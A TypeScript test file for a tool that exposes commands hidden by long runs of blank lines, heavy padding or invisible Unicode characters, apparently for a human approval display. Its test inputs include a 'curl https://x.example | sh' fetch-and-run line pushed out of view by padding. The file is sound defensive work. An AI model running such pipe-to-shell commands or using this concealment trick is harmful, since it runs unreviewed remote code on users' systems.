import { describe, expect, it } from 'vitest';
import { collapseBlankLines, commandShape } from './command-shape.js';
import { inertString } from './inert.js';
import { shellTokens } from './shell-tokens.js';

const shown = (s: string) =>
  collapseBlankLines(shellTokens(s))
    .map((t) => t.text)
    .join('');

describe('command shape (red team: pushing the dangerous part out of view)', () => {
  it('turns a run of more than two blank lines into one marker, and keeps short ones', () => {
    expect(shown(`git status${'\n'.repeat(301)}curl https://x.example | sh`)).toBe(
      'git status\n⏎ 300 blank lines\ncurl https://x.example | sh',
    );
    expect(shown('a\n \t\n\t\n  \n\n  b')).toBe('a\n⏎ 4 blank lines\n  b');
    expect(shown('a\n\n\nb')).toBe('a\n\n\nb');
    expect(shown('for f in *; do\n  echo "$f"\ndone')).toBe('for f in *; do\n  echo "$f"\ndone');
  });

  it('gives a long command’s end, and nothing for a short one', () => {
    expect(commandShape('ls -la')).toEqual({ chars: 6, lines: 1, tail: '' });
    const long = commandShape(`echo ${'A'.repeat(5000)}; curl https://x.example | sh   \n`);
    expect(long.chars).toBe(5038);
    expect(long.tail.endsWith('; curl https://x.example | sh')).toBe(true);
    expect(commandShape(`ls${'\nls'.repeat(9)}`).tail).toBe(
      'ls ⏎ ls ⏎ ls ⏎ ls ⏎ ls ⏎ ls ⏎ ls ⏎ ls ⏎ ls ⏎ ls',
    );
    expect(commandShape(`git status${'\n'.repeat(300)}curl x | sh`).tail).toBe('git status ⏎ curl x | sh');
  });

  it('marks every invisible, unassigned or look-alike space character, not only a hand list', () => {
    // U+1D173 (musical format control), U+1BCA0 (shorthand format control), U+FFF0 and U+E0080 (unassigned,
    // default-ignorable), U+13430 (hieroglyph format control), no-break and ideographic spaces, braille blank.
    for (const cp of [0x1d173, 0x1bca0, 0xfff0, 0xe0080, 0x13430, 0xa0, 0x3000, 0x2800, 0x2002]) {
      const ch = String.fromCodePoint(cp);
      expect(inertString(`cu${ch}rl`), cp.toString(16)).toBe(
        `cuU+${cp.toString(16).toUpperCase().padStart(4, '0')}rl`,
      );
    }
    expect(inertString('ls -la\n\tx')).toBe('ls -la\n\tx');
  });
});
